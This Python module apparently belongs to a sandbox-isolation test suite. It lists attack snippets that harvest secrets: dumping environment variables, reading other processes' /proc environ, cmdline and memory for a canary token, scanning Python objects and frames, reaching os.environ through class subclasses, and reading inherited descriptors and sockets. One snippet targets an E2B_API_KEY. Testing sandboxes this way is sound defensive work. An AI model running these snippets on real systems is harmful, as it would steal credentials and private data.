"""Programs that look for keys and for other tables: environment, memory, objects, inherited descriptors."""

from __future__ import annotations

from .attack import Attack

_FOUND = r"""
import re
wanted = re.compile(rb"canary-[0-9a-f]{32}")
def search(pid):
    spaces = [line.split() for line in open(f"/proc/{pid}/maps") if " rw-p " in line]
    memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    for space in spaces:
        start, end = (int(each, 16) for each in space[0].split("-"))
        while start < end:
            try:
                data = os.pread(memory, min(end - start, 1 << 24), start)
            except OSError:
                break
            if not data:
                break
            if found := wanted.search(data):
                print(found[0])
                return
            start += len(data)
    raise OSError("not found")
"""

ATTACKS = (
    Attack("print the environment", "keys", "print(dict(os.environ))"),
    Attack(
        "read the environment from the C library",
        "keys",
        """
environ, at_once = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ"), 0
while environ[at_once]:
    print(environ[at_once])
    at_once += 1
""",
    ),
    Attack("read a key by getenv", "keys", "libc.getenv.restype = ctypes.c_char_p\nprint(libc.getenv(b'E2B_API_KEY'))"),
    Attack("read /proc/self/environ", "keys", "print(open('/proc/self/environ').read())"),
    Attack(
        "read the environment of other processes",
        "keys",
        "every(at.reading, lambda pid: print(open(f'/proc/{pid}/environ').read()))",
    ),
    Attack(
        "read the arguments of other processes",
        "keys",
        "every(at.reading, lambda pid: print(open(f'/proc/{pid}/cmdline').read()))",
    ),
    Attack("search the memory of other processes", "keys", f"{_FOUND}\nevery(at.reading, search)", sibling=True),
    Attack("search the memory of the parent alone", "keys", f"{_FOUND}\nsearch(at.parent)"),
    Attack("search its own memory", "keys", f"{_FOUND}\nsearch('self')", earlier=True),
    Attack(
        "search its own memory without /proc",
        "keys",
        r"""
import re
wanted = re.compile(rb"canary-[0-9a-f]{32}")
def readable(address):
    # The kernel says EFAULT for a path that is not there, instead of ending the process.
    ctypes.set_errno(0)
    libc.access(ctypes.c_void_p(address), 0)
    return ctypes.get_errno() != errno.EFAULT
import gc
near = {id(each) >> 24 for each in gc.get_objects()} | {id(name) >> 24 for name in list(sys.modules)}
near |= {libc_address >> 24 for libc_address in [ctypes.cast(libc.sbrk, ctypes.c_void_p).value]}
libc.sbrk.restype = ctypes.c_void_p
near |= {(libc.sbrk(ctypes.c_long(0)) >> 24) - back for back in range(8)}
for page in sorted({chunk << 24 for chunk in near}):
    for address in range(page, page + (1 << 24), 4096):
        if readable(address) and (found := wanted.search(ctypes.string_at(address, 4096))):
            print(found[0])
            raise SystemExit
""",
        earlier=True,
    ),
    Attack(
        "look through all objects",
        "keys",
        """
import gc
def strings(value, depth=4):
    if isinstance(value, str): yield value
    elif isinstance(value, dict) and depth:
        for each in list(value.items()): yield from strings(each, depth - 1)
    elif isinstance(value, (list, tuple, set)) and depth:
        for each in list(value): yield from strings(each, depth - 1)
    elif type(value).__name__ == "DataFrame": yield value.to_csv()
for each in gc.get_objects():
    for text in strings(each):
        if "canary-" in text and "canary-[" not in text and '"canary-"' not in text:
            print(text[:2000])
""",
        earlier=True,
    ),
    Attack(
        "walk up the calling frames",
        "keys",
        """
frame = sys._getframe()
while frame:
    print({name: repr(value)[:300] for name, value in frame.f_locals.items() if name != "code"})
    frame = frame.f_back
""",
    ),
    Attack(
        "walk from a class to the environment",
        "keys",
        """
for each in ().__class__.__base__.__subclasses__():
    held = getattr(getattr(each, "__init__", None), "__globals__", {})
    for module in (held, vars(held.get("os") or object) if "os" in held else {}):
        if "environ" in module:
            print(dict(module["environ"]))
""",
    ),
    Attack(
        "read inherited descriptors",
        "keys",
        """
import stat
for number in range(4, 1024):
    try:
        if stat.S_ISREG(os.fstat(number).st_mode): print(os.pread(number, 4096, 0))
    except OSError: pass
""",
    ),
    Attack(
        "speak on inherited sockets",
        "keys",
        """
import stat
for number in range(4, 1024):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode): os.write(number, at.mark.encode())
    except OSError: pass
""",
    ),
)
